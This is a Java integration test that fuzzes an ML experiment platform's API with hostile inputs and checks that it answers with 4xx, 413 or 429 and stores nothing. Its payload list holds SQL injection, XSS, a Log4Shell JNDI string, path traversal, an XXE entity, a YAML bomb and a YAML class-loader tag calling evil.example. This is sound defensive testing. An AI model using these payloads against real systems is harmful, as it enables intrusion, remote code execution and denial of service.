package dev.sparselab.launcher;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.dataformat.yaml.YAMLMapper;

/**
 * What a hostile or careless client can do to a running platform: 10,000+ generated malformed and hostile specs
 * (broken syntax, deep nesting, huge numbers, wrong types, unicode, injection strings, YAML bombs and tags,
 * oversized sweeps and models) are all answered 4xx, never 5xx, and store nothing; bodies over the limit are 413;
 * a token over its rate limit gets 429 with Retry-After, and so do repeated logins.
 */
class AbuseIT {
    static final int CASES = 10_500;
    static final JsonMapper JSON = JsonMapper.builder().build();
    static final YAMLMapper YAML = YAMLMapper.builder().build();
    static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    static final List<String> HOSTILE = List.of(
            "'; drop table runs; --", "\" or 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
            "../../../../etc/passwd", "\u0000", "nul\u0000byte", "😀".repeat(500), "\u202Eevil\u202C",
            "Ω≈ç√∫˜µ≤≥÷", "null", "NaN", "Infinity", "%s%n%x%d", "A".repeat(60_000), "\t\n\r\f", "{{7*7}}",
            "#{T(java.lang.Runtime).getRuntime()}", "\\u0000\\ud800", "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ", "\uFEFFbom",
            "select pg_sleep(10)", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc\">]>",
            "-1", "1e400", "0x7fffffff", "", " ", "dense\u0000", "Fashion-MNIST", "fashion-mnist\n");
    static final List<Object> BAD_NUMBERS = List.of(0, -1, 1001, 1e300, -1e300, 1.5, "1", true, 99_999_999_999L,
            new java.math.BigInteger("99999999999999999999999999999999"), new java.math.BigDecimal("1e400"));

    @TempDir
    static Path dataDir;
    static LocalPlatform platform;
    static Api admin;
    static String fuzzToken;

    @BeforeAll
    static void start() throws Exception {
        platform = LocalPlatform.start(new LocalPlatform.Options(dataDir, 0, 0, 0, PlatformIT.DATASETS, 4));
        admin = new Api(platform.baseUrl(), platform.adminToken());
        // the fuzzer's own token, with a rate limit that lets 10,000 requests through quickly
        fuzzToken = admin.post("/api/v1/admin/users/admin/tokens", "application/json",
                "{\"name\": \"fuzz\", \"requestsPerMinute\": 1000000}").body().get("token").asString();
    }

    @AfterAll
    static void stop() {
        if (platform != null) {
            platform.close();
        }
    }

    static ObjectNode base() {
        return (ObjectNode) JSON.readTree("""
                {"name": "fuzz", "dataset": {"name": "synthetic"}, "model": {"type": "mlp", "hidden": [8]},
                 "training": {"epochs": 1, "batchSize": 32}, "sparsity": {"method": "dense"}}""");
    }

    /** One generated request: a body, its content type, the path, and what was done to it. */
    record Case(String path, String contentType, byte[] body, String what) {
    }

    static JsonNode value(Object o) {
        return JSON.valueToTree(o);
    }

    static String hostile(Random r) {
        return HOSTILE.get(r.nextInt(HOSTILE.size()));
    }

    static final String NESTED = "__nested__";

    /** The body's text with every nesting placeholder replaced by that deep a nest of arrays or objects. */
    static String splice(String body) {
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\"" + NESTED + "(\\d+)([ao])\"").matcher(body);
        StringBuilder out = new StringBuilder();
        while (m.find()) {
            int depth = Integer.parseInt(m.group(1));
            boolean arrays = m.group(2).equals("a");
            String nest = (arrays ? "[" : "{\"x\": ").repeat(depth) + "8" + (arrays ? "]" : "}").repeat(depth);
            m.appendReplacement(out, java.util.regex.Matcher.quoteReplacement(nest));
        }
        m.appendTail(out);
        return out.toString();
    }

    /** The spec's object at a field, made an object (empty) if a mutation removed it or made it something else. */
    static ObjectNode obj(ObjectNode spec, String field) {
        if (!(spec.get(field) instanceof ObjectNode)) {
            spec.putObject(field);
        }
        return (ObjectNode) spec.get(field);
    }

    /**
     * A mutation that makes any spec invalid on its own; later mutations only make their own field invalid too,
     * so none repairs an earlier one.
     */
    static String invalidate(ObjectNode spec, Random r) {
        switch (r.nextInt(14)) {
            case 0 -> {
                obj(spec, "dataset").put("name", hostile(r) + "x");
                return "dataset.name hostile";
            }
            case 1 -> {
                obj(spec, "model").put("type", hostile(r) + "x");
                return "model.type hostile";
            }
            case 2 -> {
                Object bad = BAD_NUMBERS.get(r.nextInt(BAD_NUMBERS.size()));
                obj(spec, "training").set("epochs", value(bad));
                return "training.epochs " + bad;
            }
            case 3 -> {
                obj(spec, "sparsity").put("method", hostile(r) + "x");
                return "sparsity.method hostile";
            }
            case 4 -> {
                obj(spec, "sparsity").put("method", "magnitude");
                Object bad = List.of(-0.1, 1.5, "0.5", 1e308, -1e308, "NaN", true).get(r.nextInt(7));
                obj(spec, "sparsity").set("target", value(bad));
                return "sparsity.target " + bad;
            }
            case 5 -> {
                String field = List.of("name", "dataset", "model", "training").get(r.nextInt(4));
                spec.remove(field);
                return "without " + field;
            }
            case 6 -> {
                spec.put("zz" + hostile(r), hostile(r));
                return "unknown field";
            }
            case 7 -> {
                int depth = List.of(10, 100, 999, 1_001, 5_000, 20_000).get(r.nextInt(6));
                // spliced in as text when the body is written (a JSON writer refuses such depths)
                obj(spec, "model").put("hidden", NESTED + depth + (r.nextBoolean() ? "a" : "o"));
                return "model.hidden nested " + depth;
            }
            case 8 -> {
                ArrayNode hidden = JsonNodeFactory.instance.arrayNode();
                switch (r.nextInt(4)) {
                    case 0 -> hidden.add(1_000_000_000);
                    case 1 -> hidden.add(-5);
                    case 2 -> hidden.add("eight");
                    default -> {
                        for (int i = 0; i < 50_000; i++) {
                            hidden.add(8);
                        }
                    }
                }
                obj(spec, "model").set("hidden", hidden);
                return "model.hidden bad list";
            }
            case 9 -> {
                ObjectNode grid = spec.putObject("sweep").putObject("grid");
                switch (r.nextInt(4)) {
                    case 0 -> {
                        for (int i = 0; i < 9; i++) {
                            grid.putArray("training.axis" + i).add(1);
                        }
                    }
                    case 1 -> grid.put(hostile(r), 1);
                    case 2 -> {
                        for (String axis : List.of("training.seed", "training.batchSize", "sparsity.seed")) {
                            ArrayNode values = grid.putArray(axis);
                            for (int i = 1; i <= 100; i++) {
                                values.add(i);
                            }
                        }
                    }
                    default -> grid.putArray("model.hidden").add(JsonNodeFactory.instance.arrayNode()
                            .add(65_536).add(65_536));
                }
                return "sweep.grid bad";
            }
            case 10 -> {
                ArrayNode seeds = spec.putObject("sweep").putArray("seeds");
                if (r.nextBoolean()) {
                    seeds.add(hostile(r));
                } else {
                    for (int i = 0; i < 5_000; i++) {
                        seeds.add(i);
                    }
                }
                return "sweep.seeds bad";
            }
            case 11 -> {
                obj(spec, "model").putArray("hidden").add(65_536).add(65_536).add(65_536);
                return "model too large";
            }
            case 12 -> {
                spec.set("training", value(hostile(r)));
                return "training is a string";
            }
            default -> {
                obj(spec, "training").putObject("optimizer").put("type", hostile(r) + "x")
                        .put("learningRate", -1);
                return "optimizer hostile";
            }
        }
    }

    /** Bodies that are not a spec at all, or not even parseable. */
    static Case raw(Random r, String path) {
        String valid = base().toString();
        byte[] invalidUtf8 = {'{', '"', 'n', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'};
        return switch (r.nextInt(12)) {
            case 0 -> new Case(path, "application/json", valid.substring(0, r.nextInt(valid.length() - 1))
                    .getBytes(StandardCharsets.UTF_8), "truncated JSON");
            case 1 -> new Case(path, "application/json", (valid + "}}]garbage").getBytes(StandardCharsets.UTF_8),
                    "trailing garbage");
            case 2 -> new Case(path, "application/json", invalidUtf8, "invalid UTF-8");
            case 3 -> new Case(path, "application/json", "[1, 2, 3]".getBytes(StandardCharsets.UTF_8), "an array");
            case 4 -> new Case(path, "application/json", ("\"" + hostile(r) + "\"").getBytes(StandardCharsets.UTF_8),
                    "a string");
            case 5 -> new Case(path, "application/json", "null".getBytes(StandardCharsets.UTF_8), "null");
            case 6 -> new Case(path, "application/json", new byte[0], "empty body");
            case 7 -> new Case(path, "application/yaml", billionLaughs().getBytes(StandardCharsets.UTF_8),
                    "YAML billion laughs");
            case 8 -> new Case(path, "application/yaml", ("name: !!javax.script.ScriptEngineManager "
                    + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n")
                    .getBytes(StandardCharsets.UTF_8), "YAML Java tag");
            case 9 -> new Case(path, "application/yaml", "name: a\nname: b\ndataset: {name: synthetic}\n\tmodel: x\n"
                    .getBytes(StandardCharsets.UTF_8), "YAML duplicate keys and a tab");
            case 10 -> new Case(path, "application/yaml", ("a: " + "[".repeat(20_000)).getBytes(StandardCharsets.UTF_8),
                    "YAML deep nesting");
            default -> new Case(path, "text/plain", valid.getBytes(StandardCharsets.UTF_8), "wrong content type");
        };
    }

    static String billionLaughs() {
        StringBuilder y = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int i = 1; i < 10; i++) {
            y.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) {
                y.append(j == 0 ? "" : ",").append("*a").append(i - 1);
            }
            y.append("]\n");
        }
        return y.append("name: *a9\n").toString();
    }

    static Case generate(Random r) {
        String path = r.nextInt(10) < 7 ? "/api/v1/experiments" : "/api/v1/experiments/preview";
        if (r.nextInt(10) == 0) {
            path += "?project=" + java.net.URLEncoder.encode(hostile(r), StandardCharsets.UTF_8);
        }
        if (r.nextInt(6) == 0) {
            return raw(r, path);
        }
        ObjectNode spec = base();
        StringBuilder what = new StringBuilder(invalidate(spec, r));
        for (int extra = r.nextInt(3); extra > 0; extra--) {
            what.append(", ").append(invalidate(spec, r));
        }
        if (r.nextBoolean() && spec.has("name")) {
            spec.put("name", hostile(r)); // anything is a name; noise on top (never re-adding a removed name)
        }
        boolean yaml = r.nextInt(5) == 0 && !what.toString().contains("nested");
        byte[] body = (yaml ? YAML.writeValueAsString(spec) : splice(spec.toString())).getBytes(StandardCharsets.UTF_8);
        return new Case(path, yaml ? "application/yaml" : "application/json", body, what.toString());
    }

    static HttpResponse<String> send(String token, String path, String type, HttpRequest.BodyPublisher body)
            throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(platform.baseUrl() + path))
                .timeout(Duration.ofSeconds(60)).header("Authorization", "Bearer " + token)
                .header("Content-Type", type).POST(body).build();
        try {
            return HTTP.send(request, HttpResponse.BodyHandlers.ofString());
        } catch (java.io.IOException e) {
            // a pooled keep-alive connection that Tomcat closed as the request went out (seen once in CI under
            // load: "header parser received no bytes", broken pipe): the client does not retry a POST by itself.
            // Once more on a fresh attempt; a server that really drops requests fails this one too.
            return HTTP.send(request, HttpResponse.BodyHandlers.ofString());
        }
    }

    static Map<String, Long> counts() {
        JdbcClient db = JdbcClient.create(platform.dataSource());
        Map<String, Long> counts = new TreeMap<>();
        for (String table : List.of("experiments", "runs", "outbox", "projects", "users")) {
            counts.put(table, db.sql("select count(*) from " + table).query(Long.class).single());
        }
        return counts;
    }

    @Test
    void tenThousandHostileSpecsAreAll4xxAndStoreNothing() throws Exception {
        Map<String, Long> before = counts();
        Random random = new Random(20261129);
        List<Case> cases = new ArrayList<>();
        for (int i = 0; i < CASES; i++) {
            cases.add(generate(random));
        }
        Map<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();
        List<String> failures = Collections.synchronizedList(new ArrayList<>());
        ExecutorService pool = Executors.newFixedThreadPool(4);
        List<Future<?>> done = new ArrayList<>();
        for (Case c : cases) {
            done.add(pool.submit(() -> {
                HttpResponse<String> r = send(fuzzToken, c.path(), c.contentType(),
                        HttpRequest.BodyPublishers.ofByteArray(c.body()));
                statuses.computeIfAbsent(r.statusCode(), s -> new AtomicInteger()).incrementAndGet();
                boolean problem = r.headers().firstValue("Content-Type").orElse("").contains("json");
                // a NUL in the URL, or a URL over 8 KB, is refused by Tomcat's connector itself, before any filter
                // (an HTML 400)
                boolean connector = r.statusCode() == 400 && (c.path().contains("%00") || c.path().length() > 8000);
                if (r.statusCode() < 400 || r.statusCode() >= 500 || !problem && !connector) {
                    failures.add(r.statusCode() + " for " + c.what() + " at "
                            + c.path().substring(0, Math.min(200, c.path().length())) + ": "
                            + r.body().substring(0, Math.min(300, r.body().length())));
                }
                return null;
            }));
        }
        for (Future<?> f : done) {
            f.get();
        }
        pool.shutdown();
        System.out.println("fuzz: " + CASES + " requests, statuses " + new TreeMap<>(statuses));
        assertThat(failures).as("not a 4xx problem").isEmpty();
        assertThat(statuses.keySet()).contains(400, 404, 415);
        assertThat(counts()).isEqualTo(before);
        // and the platform still works
        assertThat(admin.post("/api/v1/experiments/preview", "application/json", base().toString()).status())
                .isEqualTo(200);
        assertThat(admin.get("/actuator/health").status()).isEqualTo(200);
    }

    @Test
    void hostilePathsAndQueryParametersAreAnswered4xxOr200() throws Exception {
        Random random = new Random(7);
        List<String> templates = List.of("/api/v1/runs/%s", "/api/v1/runs/%s/metrics", "/api/v1/experiments/%s",
                "/api/v1/runs?limit=%s", "/api/v1/runs?status=%s", "/api/v1/runs?experiment=%s",
                "/api/v1/runs?method=%s&owner=%s", "/api/v1/compare?experiment=%s", "/api/v1/experiments?limit=%s",
                "/api/v1/runs/%s/metrics?maxPoints=%s", "/api/v1/projects/%s", "/api/v1/admin/audit?limit=%s",
                "/api/v1/admin/dead-letters?limit=%s", "/api/v1/tokens/%s", "/api/v1/experiments/preview?maxPoints=%s");
        List<String> failures = new ArrayList<>();
        Map<Integer, Integer> statuses = new TreeMap<>();
        for (int i = 0; i < 600; i++) {
            String a = java.net.URLEncoder.encode(hostile(random), StandardCharsets.UTF_8);
            String b = java.net.URLEncoder.encode(String.valueOf(BAD_NUMBERS.get(random.nextInt(BAD_NUMBERS.size()))),
                    StandardCharsets.UTF_8);
            String path = templates.get(random.nextInt(templates.size())).formatted(a, b);
            if (path.length() > 8000) {
                continue;
            }
            for (String method : List.of("GET", "POST", "DELETE")) {
                HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(URI.create(platform.baseUrl() + path))
                        .timeout(Duration.ofSeconds(60)).header("Authorization", "Bearer " + fuzzToken)
                        .method(method, HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.ofString());
                statuses.merge(r.statusCode(), 1, Integer::sum);
                if (r.statusCode() >= 500) {
                    failures.add(method + " " + path + " → " + r.statusCode() + " "
                            + r.body().substring(0, Math.min(300, r.body().length())));
                }
            }
        }
        System.out.println("fuzz: paths and queries, statuses " + statuses);
        assertThat(failures).isEmpty();
    }

    @Test
    void bodiesOverTheLimitAre413WithOrWithoutALength() throws Exception {
        Map<String, Long> before = counts();
        byte[] big = ("{\"name\": \"" + "A".repeat(2 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8);
        HttpResponse<String> sized = send(fuzzToken, "/api/v1/experiments", "application/json",
                HttpRequest.BodyPublishers.ofByteArray(big));
        assertThat(sized.statusCode()).isEqualTo(413);
        assertThat(sized.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        // chunked: no Content-Length, cut off while it is read
        HttpResponse<String> chunked = send(fuzzToken, "/api/v1/experiments", "application/json",
                HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(big)));
        assertThat(chunked.statusCode()).isEqualTo(413);
        HttpResponse<String> ownRoute = send(fuzzToken, "/api/v1/projects", "application/json",
                HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(big)));
        assertThat(ownRoute.statusCode()).as(ownRoute.body()).isEqualTo(413);
        // issue 20: an encoded path is held to the same limit (it was a 500)
        HttpResponse<String> encoded = send(fuzzToken, "/%61pi/v1/experiments", "application/json",
                HttpRequest.BodyPublishers.ofByteArray(big));
        assertThat(encoded.statusCode()).as(encoded.body()).isEqualTo(413);
        assertThat(counts()).isEqualTo(before);
    }

    @Test
    void aTokenOverItsRateLimitGets429WithRetryAfter() throws Exception {
        String limited = admin.post("/api/v1/admin/users/admin/tokens", "application/json",
                "{\"name\": \"slow\", \"requestsPerMinute\": 30}").body().get("token").asString();
        // the bucket holds 30 and refills one every 2 s: the first 30 pass, and within a few more one is refused
        int passed = 0;
        HttpResponse<String> refused = null;
        for (int i = 0; i < 100 && refused == null; i++) {
            HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(URI.create(platform.baseUrl()
                    + "/api/v1/catalog")).header("Authorization", "Bearer " + limited).build(),
                    HttpResponse.BodyHandlers.ofString());
            if (r.statusCode() == 429) {
                refused = r;
            } else {
                assertThat(r.statusCode()).isEqualTo(200);
                passed++;
            }
        }
        assertThat(refused).as("a 429 within 100 requests").isNotNull();
        assertThat(passed).isBetween(30, 60);
        assertThat(refused.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        assertThat(Integer.parseInt(refused.headers().firstValue("Retry-After").orElseThrow())).isBetween(1, 60);
        // the limit is the token's: the same user's other tokens go on
        assertThat(admin.get("/api/v1/catalog").status()).isEqualTo(200);
        // a non-admin may not give a token its own limit
        assertThat(admin.post("/api/v1/admin/users", "application/json",
                "{\"username\": \"eve\", \"password\": \"eve-secret-password\"}").status()).isEqualTo(201);
        Api eve = admin.as(admin.post("/api/v1/admin/users/eve/tokens", "application/json", "{\"name\": \"e\"}")
                .body().get("token").asString());
        Api.Response selfLimit = eve.post("/api/v1/tokens", "application/json",
                "{\"name\": \"fast\", \"requestsPerMinute\": 1000000}");
        assertThat(selfLimit.status()).isEqualTo(400);
        assertThat(selfLimit.body().get("errors").get(0).get("pointer").asString()).isEqualTo("/requestsPerMinute");
    }

    @Test
    void repeatedLoginsFromOneAddressGet429() throws Exception {
        // 10 a minute per address, refilled one every 6 s: the first 10 are answered (401), then 429s come; every
        // other attempt writes the path encoded, which counts all the same (issue 20: it was never limited)
        List<Integer> statuses = new ArrayList<>();
        for (int i = 0; i < 15; i++) {
            HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(URI.create(platform.baseUrl()
                            + (i % 2 == 0 ? "/api/v1/auth/login" : "/api/v1/auth/%6Cogin")))
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString("{\"username\": \"admin\", \"password\": \"guess " + i
                            + "\"}")).build(), HttpResponse.BodyHandlers.ofString());
            statuses.add(r.statusCode());
        }
        assertThat(statuses.subList(0, 10)).containsOnly(401);
        assertThat(statuses.subList(10, 15)).isSubsetOf(401, 429).contains(429);
    }

}
